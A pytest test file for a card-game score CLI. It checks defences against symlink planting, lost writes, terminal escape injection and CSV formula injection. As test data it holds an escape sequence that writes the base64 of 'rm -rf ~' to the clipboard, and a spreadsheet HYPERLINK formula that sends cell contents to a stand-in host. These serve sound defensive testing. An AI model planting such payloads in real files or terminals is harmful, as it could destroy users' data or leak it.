"""Never lose a deal, for real: the holes of issue 11, each as it was reproduced, and the
match-file object driven directly."""

from __future__ import annotations

import json
import os
import stat
import subprocess
import threading
from pathlib import Path

import pytest

from conftest import D, run, scorecli
from scorecli import store
from scorecli.errors import FileChanged, MatchOver, UndoError
from scorecli.game.deal import Deal
from scorecli.store import MatchFile

COINCHE = ('format = 1\nrules = "coinche-maison"\n\n[[deals]]\ntaker = "e"\ntrump = "spades"\n'
           'contract = 80\npoints = { ew = 90 }\nlast = "ew"\n')
ROOT = os.geteuid() == 0


def beside(path: Path) -> list[str]:
    """What lies beside the match, besides the match."""
    return sorted(p.name for p in path.parent.iterdir() if p.name != path.name)


def refused(result, *words):
    assert result.exit_code == 1, (result.exit_code, result.output)
    for word in words:
        assert word in result.stderr, result.stderr


# ---- 1. a temp file is created new and exclusive, never through a planted link

def test_planted_temp_link_is_not_followed(match_file, tmp_path):
    path = match_file(COINCHE, "m.toml")
    victim = tmp_path / "victim.txt"
    victim.write_text("victim")
    victim.chmod(0o600)
    (tmp_path / f".m.toml.{os.getpid()}.tmp").symlink_to(victim)
    assert run("deal", path, *D).exit_code == 0
    assert victim.read_text() == "victim" and stat.S_IMODE(victim.stat().st_mode) == 0o600
    assert not path.is_symlink() and len(MatchFile.read(path).match.deals) == 2


# ---- 2. a journal or lock that is a link is refused

def test_journal_link_is_refused(match_file, tmp_path):
    path = match_file(COINCHE, "m.toml")
    other = tmp_path / "other.txt"
    other.write_text("mine")
    (tmp_path / ".m.toml.undo").symlink_to(other)
    before = path.read_bytes()
    refused(run("undo", path), "undo journal is a symbolic link")
    assert other.read_text() == "mine" and path.read_bytes() == before


def test_lock_link_is_refused(match_file, tmp_path):
    path = match_file(COINCHE, "m.toml")
    target = tmp_path / "created-by-the-lock"
    (tmp_path / ".m.toml.lock").symlink_to(target)
    before = path.read_bytes()
    refused(run("deal", path, *D), "lock file is a symbolic link")
    assert not target.exists() and path.read_bytes() == before


def test_lock_that_is_a_fifo_is_refused(match_file, tmp_path):
    path = match_file(COINCHE, "m.toml")
    os.mkfifo(tmp_path / ".m.toml.lock")
    refused(run("deal", path, *D), "lock file is not a regular file")


# ---- 3. mode, owner and group are kept

@pytest.mark.skipif(not ROOT, reason="only root can give a file to another owner")
def test_owner_group_and_mode_are_kept(match_file):
    path = match_file(COINCHE, "m.toml")
    os.chown(path, 65534, 100)
    path.chmod(0o660)
    assert run("deal", path, *D).exit_code == 0
    status = path.stat()
    assert (status.st_uid, status.st_gid, stat.S_IMODE(status.st_mode)) == (65534, 100, 0o660)


def test_mode_is_kept(match_file):
    path = match_file(COINCHE, "m.toml")
    path.chmod(0o640)
    assert run("deal", path, *D).exit_code == 0
    assert stat.S_IMODE(path.stat().st_mode) == 0o640


# ---- 4. a read-only match is refused, even for root

def test_read_only_match_is_refused(match_file):
    path = match_file(COINCHE, "m.toml")
    path.chmod(0o444)
    before = path.read_bytes()
    for args in (["deal", path, *D], ["undo", path], ["edit", path, "1", "--note", "x"]):
        result = run(*args)
        assert (result.exit_code, result.stderr) == (
            1, f"Error: {path}: is read-only; nothing was changed (make it writable, for "
               f"example `chmod u+w {path}`, to change the match)\n")
    assert path.read_bytes() == before
    assert run("show", path).exit_code == 0  # reading does not care
    assert beside(path) == []


# ---- 5. edit keeps comments, CRLF endings and inline tables

CRLF = ('format = 1\r\nrules = "coinche-maison"\r\n\r\n# the first deal\r\n[[deals]]\r\n'
        'taker = "s"  # Anna took\r\ntrump = "hearts"\r\ncontract = 80\r\n'
        'points = { ns = 90 }  # counted twice\r\nlast = "ns"\r\n')


def test_edit_keeps_comments_and_crlf(match_file):
    path = match_file("")
    path.write_bytes(CRLF.encode())
    assert run("edit", path, "1", "--points", "ns=100").exit_code == 0
    assert path.read_bytes() == CRLF.replace("points = { ns = 90 }", "points = { ns = 100 }"
                                             ).encode()


def test_edit_inline_deals_keeps_comments_and_inline_tables(match_file):
    text = ('format = 1\nrules = "belote-maison"\n# inline deals\ndeals = [\n'
            '  { taker = "s", trump = "hearts", points = { ns = 82 }, last = "ns" },  # one\n'
            '  { taker = "e", trump = "clubs", points = { ew = 90 }, last = "ew" },  # two\n]\n')
    path = match_file(text)
    assert run("edit", path, "2", "--points", "ew=100").exit_code == 0
    new = path.read_text()
    assert "# inline deals" in new and "# one" in new and "# two" in new
    assert "[deals" not in new and "ew = 100" in new
    assert len(MatchFile.read(path).match.deals) == 2


# ---- 6. undo then restore gives the same bytes back, whatever the layout

@pytest.mark.parametrize("text", [
    CRLF + '\r\n[[deals]]\r\ntaker = "e"\r\ntrump = "clubs"\r\ncontract = 90\r\n'
           'points = { ew = 100 }\r\nlast = "ew"\r\n',
    'format = 1\nrules = "belote-maison"\ndeals = [\n'
    '  { taker = "s", trump = "hearts", points = { ns = 82 }, last = "ns" },  # one\n'
    '  { taker = "e", trump = "clubs", points = { ew = 90 }, last = "ew" },  # two\n]\n# end\n',
    "\ufeff" + COINCHE + '\n[[deals]]\ntaker = "n"\ntrump = "clubs"\ncontract = 90\n'
                         'points = { ns = 100 }\nlast = "ns"\n',
], ids=["crlf", "inline", "bom"])
def test_undo_then_restore_gives_the_same_bytes(match_file, text):
    path = match_file("")
    path.write_bytes(text.encode())
    assert run("undo", path).exit_code == 0
    assert len(MatchFile.read(path).match.deals) == 1
    assert run("undo", path, "--restore").exit_code == 0
    assert path.read_bytes() == text.encode()
    assert beside(path) == []


# ---- 7. the journal is written before the match loses the deal

def test_undo_that_cannot_write_its_journal_keeps_the_deal(match_file):
    path = match_file(COINCHE.replace('last = "ew"', f'last = "ew"\nnote = "{"x" * 3000}"'),
                      "m.toml")
    before = path.read_bytes()
    # bash's `ulimit -f 2`: no file may grow past 2 KiB, so the journal cannot be written.
    result = subprocess.run(["bash", "-c", f"ulimit -f 2; exec {' '.join(scorecli('undo', path))}"],
                            capture_output=True, text=True)
    assert result.returncode == 1 and "Traceback" not in result.stderr, result.stderr
    assert path.read_bytes() == before
    assert MatchFile.read(path).removed() == []


# ---- 8. undo is a stack

def test_undo_undo_restore_restore(match_file):
    text = COINCHE + ('\n[[deals]]\ntaker = "s"\ntrump = "hearts"\ncontract = 100\n'
                      'points = { ns = 120 }\nlast = "ns"\n')
    path = match_file(text)
    assert run("undo", path).exit_code == 0
    assert run("undo", path).exit_code == 0
    listed = run("undo", path, "--list").stdout
    assert listed == ('# deal 1, removed by undo (newest)\n[[deals]]\ntaker = "e"\ntrump = '
                      '"spades"\ncontract = 80\npoints = { ew = 90 }\nlast = "ew"\n\n'
                      '# deal 2, removed by undo\n[[deals]]\ntaker = "s"\ntrump = "hearts"\n'
                      'contract = 100\npoints = { ns = 120 }\nlast = "ns"\n')
    assert run("undo", path, "--restore").stdout.startswith("Restored deal 1: ")
    assert run("undo", path, "--restore").stdout.startswith("Restored deal 2: ")
    assert path.read_text() == text and beside(path) == []


def test_restore_after_a_change_says_where_the_deals_are(match_file):
    path = match_file(COINCHE)
    run("undo", path)
    run("deal", path, *D)
    result = run("undo", path, "--restore")
    refused(result, "not put back", "--list")
    assert "deal 1, removed by undo" in run("undo", path, "--list").stdout


# ---- 9. text from the file cannot drive the terminal

EVIL = "Nous\x1b]0;PWNED\x07\x1b[2J\r\b"
EVIL_SHOWN = "Nous\\x1b]0;PWNED\\x07\\x1b[2J\\x0d\\x08"


def test_control_characters_are_made_visible(match_file):
    clip = "\x1b]52;c;cm0gLXJmIH4=\x07"
    text = (f'format = 1\nrules = "belote-maison"\ntitle = "{clip}"\n[teams]\n'
            f'ns = "{EVIL}"\n[players]\ns = "Chlo\x1b[2Jé"\n'.replace("\x1b", "\\u001b")
            .replace("\x07", "\\u0007").replace("\r", "\\r").replace("\b", "\\b")
            + '[[deals]]\ntaker = "s"\ntrump = "hearts"\npoints = { ns = 82 }\nlast = "ns"\n'
            'note = "bell\\u0007"\n')
    path = match_file(text)
    outputs = [run("--color", "never", "show", path), run("explain", path),
               run("deal", path, "--taker", "s", "--trump", "hearts", "--points", "ns=90",
                   "--last", "ns")]
    for result in outputs:
        assert result.exit_code == 0, result.output
        for control in "\x1b\x07\r\b":
            assert control not in result.stdout
    assert EVIL_SHOWN in outputs[0].stdout and "\\x1b]52;c;cm0gLXJmIH4=\\x07" in outputs[0].stdout
    assert "Chlo\\x1b[2Jé" in outputs[1].stdout and "bell\\x07" in outputs[1].stdout
    # JSON keeps the text as data
    assert json.loads(run("show", path, "--json").stdout)["teams"]["ns"] == EVIL


def test_error_messages_show_control_characters(match_file):
    path = match_file('format = 1\nrules = "belote-maison"\n[players]\ns = "A\\u001b[2J"\n')
    result = run("deal", path, "--taker", "zz", "--trump", "h", "--points", "ns=82",
                 "--last", "ns")
    assert result.exit_code == 1 and "\x1b" not in result.stderr


# ---- 10. CSV cells are not formulas

def test_csv_cells_never_start_a_formula(match_file):
    path = match_file(COINCHE)
    assert run("deal", path, *D, "--note", '=HYPERLINK("http://x/?"&A1,"c")').exit_code == 0
    assert run("edit", path, "1", "--note", "-2+3").exit_code == 0
    csv = run("export", path, "--csv").stdout
    assert "'=HYPERLINK(" in csv and ",'-2+3," in csv
    assert ",=" not in csv


# ---- 11. export never writes over the match, its lock or its journal

def test_export_refuses_the_lock_and_the_journal(match_file, tmp_path):
    path = match_file(COINCHE, "m.toml")
    for name, what in ((".m.toml.lock", "the match's lock"),
                       (".m.toml.undo", "the match's undo journal"),
                       ("m.toml", "the match file itself")):
        result = run("export", path, "--csv", "-o", tmp_path / name)
        assert (result.exit_code, result.stderr) == (
            1, f"Error: --output {tmp_path / name}: that is {what}; choose another file\n")
    assert beside(path) == []


# ---- 12. export into a device or FIFO writes into it; `-` is standard output

def test_export_into_a_fifo_writes_into_it(match_file, tmp_path):
    path = match_file(COINCHE)
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    got = []
    reader = threading.Thread(target=lambda: got.append(fifo.read_text()))
    reader.start()
    assert run("export", path, "--csv", "-o", fifo).exit_code == 0
    reader.join(10)
    assert stat.S_ISFIFO(fifo.stat().st_mode) and got[0].startswith("number,")


@pytest.mark.skipif(not ROOT, reason="only root can make a device node")
def test_export_into_a_device_keeps_the_device(match_file, tmp_path):
    path = match_file(COINCHE)
    null = tmp_path / "mynull"
    os.mknod(null, 0o666 | stat.S_IFCHR, os.makedev(1, 3))
    assert run("export", path, "--csv", "-o", null).exit_code == 0
    assert stat.S_ISCHR(null.stat().st_mode)


def test_export_dash_is_standard_output(match_file, tmp_path, monkeypatch):
    path = match_file(COINCHE)
    monkeypatch.chdir(tmp_path)
    result = run("export", path, "--csv", "-o", "-")
    assert result.stdout.startswith("number,") and not (tmp_path / "-").exists()


# ---- 13. a file of many comment lines: correct here, its cost in benchmarks/run.py

def test_edit_and_undo_among_many_comment_lines(match_file):
    text = COINCHE.replace("[[deals]]", "#\n" * 100_000 + "[[deals]]")
    path = match_file(text)
    assert run("edit", path, "1", "--note", "z").exit_code == 0
    assert path.read_text() == text.replace('last = "ew"\n', 'last = "ew"\nnote = "z"\n')
    assert run("undo", path).exit_code == 0
    assert run("undo", path, "--restore").exit_code == 0
    assert path.read_text() == text.replace('last = "ew"\n', 'last = "ew"\nnote = "z"\n')


# ---- 14. no one else's change is overwritten

def _editor_saves_during(monkeypatch, path: Path, saved: str):
    """Make an editor save `saved` over the match (by rename) just before the first
    replace, as if it happened while scorecli worked."""
    real_write = store.safewrite.atomic_write
    done = []

    def atomic_write(target, data, still_current=None, **kw):
        if still_current is not None and not done:
            done.append(1)
            other = path.with_name("editor.tmp")
            other.write_text(saved)
            os.replace(other, path)
        return real_write(target, data, still_current, **kw)
    monkeypatch.setattr(store.safewrite, "atomic_write", atomic_write)


def test_edit_redone_on_the_editors_save(match_file, monkeypatch):
    path = match_file(COINCHE)
    saved = COINCHE.replace("# ", "") + "# the editor's line\n"
    _editor_saves_during(monkeypatch, path, saved)
    result = run("edit", path, "1", "--note", "z")
    assert result.exit_code == 0
    assert "changed on disk while scorecli was working" in result.stderr
    assert path.read_text() == saved.replace('last = "ew"\n', 'last = "ew"\nnote = "z"\n')


def test_deal_redone_on_the_editors_save(match_file, monkeypatch):
    path = match_file(COINCHE)
    saved = COINCHE + "# the editor's line\n"
    _editor_saves_during(monkeypatch, path, saved)
    assert run("deal", path, *D).exit_code == 0
    text = path.read_text()
    assert text.startswith(saved) and len(MatchFile.read(path).match.deals) == 2


def test_a_file_that_keeps_changing_is_refused(match_file, monkeypatch):
    path = match_file(COINCHE)
    monkeypatch.setattr(store.safewrite, "atomic_write",
                        lambda target, data, still_current=None, **kw: False)
    with pytest.raises(FileChanged):
        with MatchFile.writing(path) as match_file_:
            match_file_.record(Deal("s", "hearts", {"ns": 100, "ew": None}, "ns", 80))


# ---- 15. a match that is not a regular file is refused at once

@pytest.mark.parametrize("command", [["show"], ["deal", *D], ["check"]])
def test_fifo_match_is_refused_at_once(tmp_path, command):
    fifo = tmp_path / "fifo.toml"
    os.mkfifo(fifo)
    args = [command[0], fifo, *command[1:]]
    result = subprocess.run(scorecli(*args), capture_output=True, text=True, timeout=20)
    assert result.returncode == 1
    assert "is not a regular file" in result.stderr


def test_folder_match_is_refused(tmp_path):
    refused(run("show", tmp_path), "is a folder")


# ---- and also

def test_nothing_is_left_beside_the_match(match_file):
    path = match_file(COINCHE, "m.toml")
    for args in (["deal", path, *D], ["edit", path, "2", "--note", "x"], ["show", path],
                 ["undo", path]):
        assert run(*args).exit_code == 0
    assert beside(path) == [".m.toml.undo"]  # the journal, while it holds a deal
    assert run("undo", path, "--restore").exit_code == 0
    assert beside(path) == []


def test_hard_links_are_warned_about(match_file, tmp_path):
    path = match_file(COINCHE, "m.toml")
    os.link(path, tmp_path / "copy.toml")
    result = run("deal", path, *D)
    assert result.exit_code == 0
    assert result.stderr == (f"Warning: {path} has 1 other name (hard links); scorecli "
                             "replaces the file, so they keep the old text\n")


def test_interactive_save_asks_again_when_the_file_changed(match_file, monkeypatch):
    import scorecli.cli.terminal

    path = match_file(COINCHE)
    real_confirm = scorecli.cli.terminal.confirm
    calls = []

    def confirm(*args, **kw):
        if not calls:  # someone records a deal while the player confirms
            assert run("deal", path, "--taker", "n", "--trump", "clubs", "--contract", "90",
                       "--points", "ns=100", "--last", "ns").exit_code == 0
        calls.append(1)
        return real_confirm(*args, **kw)
    monkeypatch.setattr(scorecli.cli.terminal, "confirm", confirm)
    result = run("deal", path, "-i", *D, "--belote", "ns", "--announce", "ns=tierce",
                 input="y\ny\n")
    assert result.exit_code == 0, result.output
    assert f"{path} changed while you answered" in result.stdout
    assert "Deal 3: s 80 hearts" in result.stdout.split("changed while you answered")[1]
    assert len(calls) == 2 and len(MatchFile.read(path).match.deals) == 3


# ---- the object, driven directly

def test_match_file_object(match_file):
    path = match_file(COINCHE)
    deal = Deal("s", "hearts", {"ns": 100, "ew": None}, "ns", 80)
    with MatchFile.writing(path) as match_file_:
        after = match_file_.record(deal)
        assert after.total == {"ns": 62 + 190, "ew": 180 + 52}
        number, removed, _ = match_file_.remove_last()
        assert (number, removed) == (2, deal)
        assert [r.number for r in match_file_.removed()] == [2]
        match_file_.restore()
        before, after = match_file_.replace(2, {"note": "checked"})
        assert before.total == after.total
    assert MatchFile.read(path).match.deals[1].note == "checked"
    with pytest.raises(UndoError):
        with MatchFile.writing(path) as match_file_:
            match_file_.restore()


def test_match_over_is_refused_by_the_object(match_file):
    path = match_file(COINCHE.replace("[[deals]]", "[options]\ntarget = 100\n\n[[deals]]"))
    with pytest.raises(MatchOver):
        with MatchFile.writing(path) as match_file_:
            match_file_.record(Deal("s", "hearts", {"ns": 100, "ew": None}, "ns", 80))


# ---- the error boundary: a bug never passes for a refused input

def test_a_bug_is_an_internal_error(match_file, monkeypatch):
    import scorecli.render

    path = match_file(COINCHE)

    def broken(*args, **kw):
        raise ValueError("3 is not in list")
    monkeypatch.setattr(scorecli.render, "show_text", broken)
    result = run("show", path)
    assert (result.exit_code, result.stderr) == (
        70, "scorecli: internal error: ValueError: 3 is not in list\n"
            "(a bug in scorecli; SCORECLI_DEBUG=1 shows where)\n")
    debug = run("show", path, env={"SCORECLI_DEBUG": "1"})
    assert debug.exit_code == 70 and "Traceback" in debug.stderr


def test_a_long_comment_block_above_the_last_deal_stays_after_undo(match_file):
    block = "".join(f"# the club's rule {n}\n" for n in range(30))
    text = COINCHE.replace("[[deals]]", block + "[[deals]]")
    path = match_file(text)
    assert run("undo", path).exit_code == 0
    assert block in path.read_text()  # the file's comments, not the deal's own note
    assert run("undo", path, "--restore").exit_code == 0
    assert path.read_text() == text
